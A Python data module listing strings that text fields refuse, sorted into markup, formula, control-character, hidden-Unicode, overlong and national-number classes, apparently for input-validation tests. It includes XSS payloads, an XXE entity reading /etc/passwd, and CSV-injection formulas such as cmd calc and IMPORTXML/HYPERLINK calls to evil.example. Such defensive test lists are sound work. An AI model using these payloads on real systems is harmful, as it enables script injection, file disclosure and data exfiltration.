"""What no field for text takes, by class."""

# fmt: off
REFUSED: dict[str, list[str]] = {
    "markup": [
        "<script>alert(1)</script>", "<b>An</b>", '"><img src=x onerror=alert(1)>',
        "<svg/onload=alert(1)>", "</title><script>", "<!-- An", "<?php echo 1 ?>", "<![CDATA[x]]>",
        "a<b", "An > Jo", "<a href='javascript:alert(1)'>x</a>", "<iframe src=//evil.example>",
        "<style>*{display:none}</style>", "<%= 7*7 %>", "</form><form action=//evil.example>",
        "<html>", "javascript:/*--></script>", "a\r\n\r\n<html>", "<ScRiPt>alert(1)</sCrIpT>",
        "<script x", "<img src=x onerror=alert(1)>", "<body onload=alert(1)>",
        "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
        "</textarea><script>", "1 < 2 and 2", "<3 An", "< script >",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0>", "<object data=x>",
        "<button formaction=//evil.example>", "<svg><script>1</script></svg>", "'><i>An",
        "--><b>An", "An]]>", "<scr<script>ipt>", "&lt;<An", "<🙂>",
        '<noscript><p title="</noscript>">',
    ],
    "formula": [
        "=1+1", "=cmd|' /C calc'!A0", "+32", "-1", "-0", "@SUM(A1)",
        '=HYPERLINK("http://evil.example";"x")', " =1+1", "\xa0=1+1", "＝1+1", "－1", "+", "-", "@",
        "-9223372036854775809", "＠SUM", "=SUM(1;1)", "==1",
        '=IMPORTXML("http://evil.example";"x")', "+1+1", "+cmd|' /C calc'!A0", "-2+3", "--1",
        "-infinity", "@x", "\t=1+1", "\r\n=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1", "﹢1",
        "⁺1", "﹣1", "＋1", "﹦1", "⁼1", "﹫x", "-1e5", "-1.5", "+32 476 12 34 56", "=@x",
        "-2147483649",
    ],
    "control": [
        "An\x00", "\x00", "An\x00Jo", "An\x07", "An\x08Jo", "An\x1b[31m", "An\x7f", "An\x80Jo",
        "An\x9fJo", "\x01", "\ufffd\x02", "\x02", "An\x03", "An\x04Jo", "An\x05", "An\x06",
        "An\x0eJo",
        "An\x0fJo", "An\x10Jo", "An\x14Jo", "An\x1aJo", "\x00\x00", "\x00An", "A\x00n", "An\x84Jo",
        "An\x9b31m", "\x1b]0;x\x07", "\x1b[2J", "\x08\x08\x08", "\x7f\x7f",
    ],
    "hidden": [
        "An\u202eJo", "An\u2066Jo", "An\u2069Jo", "An\u061cJo", "An\ue000Jo", "An\U000f0000Jo",
        "An\U000e0041Jo", "An\ufffeJo", "An\uffffJo", "An\u0378Jo", "A" + "\u0301" * 8,
        "Z" + "\u0335\u0321\u0327" * 20,
        "\u202aAn", "An\u202bJo", "An\u202dJo", "\u2067An", "\u2068An\u2069", "An\u206fJo",
        "An\u2061Jo", "An\u2064Jo", "An\U000e0001Jo", "An\U000e007fJo", "An\ufdd0Jo",
        "An\U0001fffeJo", "An\U0010ffffJo", "An\uf8ffJo", "An\U00100000Jo", "o" + "\u0308" * 8,
        # Letters that nobody sees.
        "\u3164", "\u115f\u1160", "\uffa0", "An\u2800Jo", "An\u034fJo", "\ufe0f",
        "An\ufff9x\ufffa", "An\U0001d173Jo", "A" + "\u20dd" * 8,
    ],
    "long": [
        "x" * 201, "é" * 500, "x " * 1_000, "🙂" * 300, "9" * 5_000, "x" * 10_000, "\u0958" * 80,
        "\U0001d160" * 60, "a'" * 5_000, "%" * 10_000,
        "An " * 100, "e\u0301" * 300, "👩\u200d👩\u200d👧\u200d👦" * 60, "ﷺ" * 300, "9" * 4_301,
        "0" * 400, "1." + "0" * 300, "1," * 300, "(" * 1_000, "{" * 600, "'" * 1_000, "\\" * 1_000,
        "1 " * 35_000,
    ],
    "national number": [
        "85.07.30-033.28", "85073003328", "An 85.07.30-033.28", "８５０７３００３３２８",
        "85 07 30 033 28",
        "Rr 85.07.30-033.28", "85.07.30.033.28", "85-07-30-033-28", "85/07/30 033 28",
        "٨٥٠٧٣٠٠٣٣٢٨", "An85073003328x", "85.47.30-033.55",
    ],
}
# fmt: on
